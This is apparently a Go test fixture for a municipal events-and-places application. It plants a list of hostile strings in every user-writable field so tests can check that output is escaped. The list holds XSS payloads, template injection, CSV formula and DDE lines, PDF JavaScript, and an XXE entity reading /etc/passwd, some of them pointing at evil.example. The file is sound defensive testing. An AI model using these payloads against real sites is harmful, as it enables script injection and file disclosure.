package apptest

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"image"
	"image/png"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"viaduc/internal/agenda"
	"viaduc/internal/agenda/recur"
	"viaduc/internal/audit"
	"viaduc/internal/identity"
	"viaduc/internal/place"
	"viaduc/internal/platform/fault"
	"viaduc/internal/platform/picture"
	"viaduc/internal/territory"
)

// HostileTexts are texts that run as a program where a page, a file or a feed writes them without care: each calls planted,
// which no page of ours defines. They cover elements, attributes with each kind of quote and none, addresses, script and
// style blocks, comments, SVG and MathML, templates, encodings, broken markup, and the ends of the formats that we write
// besides HTML (JSON, CSV, XML, PDF, calendars, Turtle).
var HostileTexts = []string{
	`<script>planted(1)</script>`,
	`</script><script>planted(2)</script>`,
	`<ScRiPt>planted(3)</sCrIpT>`,
	`<script src=//evil.example/4.js></script>`,
	`<img src=x onerror=planted(5)>`,
	`"><img src=x onerror=planted(6)>`,
	`'><img src=x onerror=planted(7)>`,
	`<img/src=x/onerror=planted(8)>`,
	`<svg onload=planted(9)>`,
	`<svg><script>planted(10)</script></svg>`,
	`<svg><a xlink:href="javascript:planted(11)"><text>x</text></a></svg>`,
	`<svg><animate onbegin=planted(12) attributeName=x dur=1s>`,
	`<svg><foreignObject><body onload=planted(13)></foreignObject></svg>`,
	`<math><a xlink:href="javascript:planted(14)">x</a></math>`,
	`<body onload=planted(15)>`,
	`<iframe src="javascript:planted(16)"></iframe>`,
	`<iframe srcdoc="<script>planted(17)</script>"></iframe>`,
	`<object data="javascript:planted(18)"></object>`,
	`<embed src="data:text/html,<script>planted(19)</script>">`,
	`<a href="javascript:planted(20)">x</a>`,
	`<a href="JaVaScRiPt:planted(21)">x</a>`,
	"<a href=\"java\tscript:planted(22)\">x</a>",
	`<a href="&#106;avascript:planted(23)">x</a>`,
	`javascript:planted(24)`,
	`JAVASCRIPT:planted(25)//http://x`,
	`data:text/html;base64,PHNjcmlwdD5wbGFudGVkKDI2KTwvc2NyaXB0Pg==`,
	`vbscript:planted(27)`,
	`" onmouseover="planted(28)`,
	`' onmouseover='planted(29)`,
	`" autofocus onfocus="planted(30)`,
	"` onmouseover=`planted(31)",
	` onmouseover=planted(32) x=`,
	`" style="background:url(javascript:planted(33))`,
	`<style>@import 'http://evil.example/34.css';</style>`,
	`</style><script>planted(35)</script>`,
	`</title><script>planted(36)</script>`,
	`</textarea><script>planted(37)</script>`,
	`</option></select><script>planted(38)</script>`,
	`<!--><script>planted(39)</script>-->`,
	`--><script>planted(40)</script>`,
	`]]><script>planted(41)</script>`,
	`<![CDATA[<script>planted(42)</script>]]>`,
	`<template><script>planted(43)</script></template>`,
	`{{constructor.constructor('planted(44)')()}}`,
	`${planted(45)}`,
	`{{.Page}}<%= planted(46) %>`,
	`<base href="http://evil.example/47/">`,
	`<meta http-equiv="refresh" content="0;url=javascript:planted(48)">`,
	`<link rel=stylesheet href=http://evil.example/49.css>`,
	`<form action="javascript:planted(50)"><button>x</button></form>`,
	`<input autofocus onfocus=planted(51)>`,
	`<details open ontoggle=planted(52)>`,
	`<video><source onerror=planted(53)></video>`,
	`<marquee onstart=planted(54)>`,
	`<x onclick=planted(55)>x</x>`,
	`<noscript><p title="</noscript><img src=x onerror=planted(56)>">`,
	`%3Cscript%3Eplanted(57)%3C/script%3E`,
	`\u003cscript\u003eplanted(58)\u003c/script\u003e`,
	`＜script＞planted(59)＜/script＞`,
	"+ADw-script+AD4-planted(60)+ADw-/script+AD4-",
	"\u2028planted(61)\u2029</script>",
	`","x":1}];planted(62);//`,
	`=HYPERLINK("http://evil.example/63";"x")`,
	`@SUM(1+1)*cmd|' /C calc'!A64`,
	`) /S /JavaScript /JS (planted(65)) >> endobj`,
	"END:VEVENT\nEND:VCALENDAR\nBEGIN:VCALENDAR\nX-ALT-DESC:<script>planted(66)</script>",
	`" . <http://evil.example/67> a <http://evil.example/x> . "`,
	`?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
}

// hostileCensus is a census in which each field of a place holds each hostile text, one text a row.
func hostileCensus() string {
	var file bytes.Buffer
	w := csv.NewWriter(&file)
	names := []string{}
	for _, c := range place.Columns() {
		names = append(names, c.Name)
	}
	for _, c := range place.Local() {
		names = append(names, c.Name)
	}
	sure := map[string]string{
		"pivot": place.UnknownPivot, "commune": "Rochefort", "code_postal": "17300", "code_insee": "17299", "latitude": "45.94", "longitude": "-0.96", "date_maj": "2026-01-05",
	}
	rows := [][]string{names}
	for i, text := range HostileTexts {
		row := make([]string, len(names))
		for j, name := range names {
			switch {
			case name == "id":
				row[j] = fmt.Sprintf("hostile_%d", i)
			case sure[name] != "":
				row[j] = sure[name]
			default:
				row[j] = text
			}
		}
		rows = append(rows, row)
	}
	// Rows whose place in the world is hostile, too.
	for i, text := range HostileTexts {
		row := slices.Clone(rows[1+i])
		for j, name := range names {
			switch name {
			case "id":
				row[j] = fmt.Sprintf("hostile_%d %s", i, text)
			case "commune", "pivot", "date_maj":
				row[j] = text
			}
		}
		rows = append(rows, row)
	}
	if err := w.WriteAll(rows); err != nil {
		panic(err) // a buffer takes all
	}
	return file.String()
}

// grey is a small photo of nothing.
func grey(t testing.TB) picture.Picture {
	t.Helper()
	var file bytes.Buffer
	if err := png.Encode(&file, image.NewGray(image.Rect(0, 0, 8, 8))); err != nil {
		t.Fatal(err)
	}
	p, err := picture.Read(file.Bytes())
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// PlantHostileTexts puts HostileTexts wherever people and files can write, and returns the public numbers of the places
// that hold them.
func (n *Node) PlantHostileTexts() []int64 {
	n.t.Helper()
	n.ImportText(hostileCensus())
	for i, text := range HostileTexts {
		if _, err := n.Territory.SaveNews(n.t.Context(), audit.System, territory.News{Title: text, Body: text, StartsOn: "2026-01-05"}); err != nil {
			n.t.Fatalf("text %d: %v", i, err)
		}
	}
	var planted []int64
	for _, e := range n.Places.Index().Entries() {
		if !strings.HasPrefix(e.StandardID, "hostile_") {
			continue
		}
		text := HostileTexts[len(planted)%len(HostileTexts)]
		if _, err := n.Places.Report(n.t.Context(), place.NewReport{Place: e.Number, Topics: []place.Topic{place.OtherTopic}, Text: text}); err != nil {
			n.t.Fatal(err)
		}
		if err := n.Places.AddPhoto(n.t.Context(), identity.AtCLI(), e.Number, grey(n.t), text); err != nil {
			n.t.Fatal(err)
		}
		planted = append(planted, int64(e.Number))
	}
	n.plantAgenda()
	if len(planted) < 2*len(HostileTexts) {
		n.t.Fatalf("%d places were planted", len(planted))
	}
	n.Reload()
	return planted
}

// plantAgenda puts each text wherever the agenda can be written in: activities of two dates, the second called off for a
// hostile reason. What it refuses to take is not there to be read.
func (n *Node) plantAgenda() {
	n.t.Helper()
	by := identity.Actor{Kind: identity.System}
	year, month, day := n.Clock.Now().Date()
	today := recur.Date{Year: year, Month: month, Day: day}
	n.plantTours(by)
	for i, text := range HostileTexts {
		in := agenda.NewSeries{
			Mode: agenda.Event, Title: text, Summary: text, Prerequisites: text, Where: agenda.Where{Commune: "17299", Venue: text}, Host: agenda.Host{Name: text, Email: "mairie@viaduc.example"},
			Pattern: recur.Pattern{Starts: today.AddDays(1 + i%20), Extra: []recur.Date{today.AddDays(30 + i%20)}, Minute: 600, Length: 60, Zone: n.Clock.Now().Location()},
		}
		if i%2 == 0 {
			in.Host = agenda.Host{}
		}
		series, err := n.Agenda.AddSeries(n.t.Context(), by, in, agenda.Published)
		if fault.Is(err, fault.Invalid) {
			in.Title, in.Prerequisites, in.Where.Venue, in.Host = "Texte "+strconv.Itoa(i), "", "", agenda.Host{}
			if series, err = n.Agenda.AddSeries(n.t.Context(), by, in, agenda.Published); fault.Is(err, fault.Invalid) {
				continue
			}
		}
		if err != nil {
			n.t.Fatalf("text %d on the agenda: %v", i, err)
		}
		if _, err := n.Agenda.Refresh(n.t.Context()); err != nil {
			n.t.Fatal(err)
		}
		dates := n.Agenda.Index().Search(agenda.Query{Series: series.ID})
		if err := n.Agenda.CancelDate(n.t.Context(), by, dates[len(dates)-1].ID, text); err != nil {
			n.t.Fatalf("text %d as a reason: %v", i, err)
		}
	}
}

// plantTours puts each text in tours, in rooms and in requests of communes.
func (n *Node) plantTours(by identity.Actor) {
	n.t.Helper()
	for i, text := range HostileTexts {
		tour, err := n.Agenda.SaveTour(n.t.Context(), by, agenda.Tour{Name: text, Vehicle: text, Kit: []string{text, text}, From: "2026-05-04", To: "2026-12-18", Base: "17299"})
		if err != nil && !fault.Is(err, fault.Invalid) {
			n.t.Fatalf("text %d as a tour: %v", i, err)
		}
		if _, err := n.Agenda.AddResource(n.t.Context(), by, agenda.Resource{Name: text, Kind: agenda.Room}); err != nil && !fault.Is(err, fault.Invalid) {
			n.t.Fatalf("text %d as a room: %v", i, err)
		}
		in := agenda.NewRequest{Commune: "17299", EveryWeeks: 1, From: "2026-06-01", Rooms: text, Needs: text, ContactName: text, ContactRole: text, Email: "mairie@viaduc.example"}
		request, err := n.Agenda.AskFor(n.t.Context(), in)
		if fault.Is(err, fault.Invalid) {
			continue
		}
		if err != nil {
			n.t.Fatalf("text %d as a request: %v", i, err)
		}
		if i%2 == 0 {
			err = n.Agenda.Turn(n.t.Context(), by, request.ID, request.Version, text)
		} else if tour.ID != "" {
			err = n.Agenda.Offer(n.t.Context(), by, request.ID, request.Version, agenda.HalfDay{Tour: tour.ID, Weekday: time.Monday, Starts: "2026-06-01", Minute: 600, Length: 120, Reasons: []string{text}})
		}
		if err != nil && !fault.Is(err, fault.Invalid) {
			n.t.Fatalf("text %d as an answer: %v", i, err)
		}
	}
}
